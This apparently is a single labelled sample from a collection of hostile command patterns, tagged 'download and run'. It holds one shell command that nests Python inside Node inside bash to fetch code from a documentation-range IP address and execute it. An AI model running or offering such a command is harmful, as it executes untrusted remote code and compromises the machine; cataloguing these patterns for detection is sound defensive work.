# class: download and run; style: python inside node inside bash
node -e "require('child_process').execSync('python3 -c \"import urllib.request as u;exec(u.urlopen(\\'http://203.0.113.35/z\\').read())\"')"
